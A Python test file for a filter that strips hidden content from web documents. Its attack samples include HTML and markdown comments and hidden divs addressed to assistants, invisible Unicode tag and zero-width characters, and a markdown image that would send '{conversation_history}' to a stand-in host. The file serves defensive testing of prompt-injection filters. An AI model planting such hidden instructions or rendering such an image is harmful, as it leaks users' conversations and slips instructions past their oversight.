"""The filter keeps the contract of document filters."""

from collections.abc import Sequence
from typing import ClassVar

from websearch_core.contract.context import PluginContext
from websearch_core.contract.interfaces import DocumentFilter
from websearch_core.testing.contracts import DocumentFilterContract
from websearch_guard.hidden import HiddenFilter


class TestHidden(DocumentFilterContract):
    component = HiddenFilter
    attacks: ClassVar[Sequence[str]] = (
        "Opening hours <!-- an aside to assistants --> are nine to five",
        "a\u200bb\u200bc",
        "See\U000e0041\U000e0042\U000e0043 here",
        '<div style="display:none">an aside to assistants</div>Welcome',
        "![chart](https://pixel.example/?d={conversation_history})",
        "[//]: # (an aside to assistants)",
    )
    clean: ClassVar[Sequence[str]] = (
        "A plain sentence about nothing in particular.",
        "Write `<!-- a comment -->` where readers should not look.",
        "👩‍👩‍👧‍👦 and می‌خواهم and क्‍ष are spelt with joiners.",
        "Read [the manual](https://example.com/manual?utm_source=news#part-2).",
        "![logo](https://cdn.example.com/3f2a9c/5d41402abc4b2a76b9719d911017c592.png?w=640&h=480&s=9b1c)",
    )

    def filter(self, ctx: PluginContext) -> DocumentFilter:
        return HiddenFilter(ctx.workers)
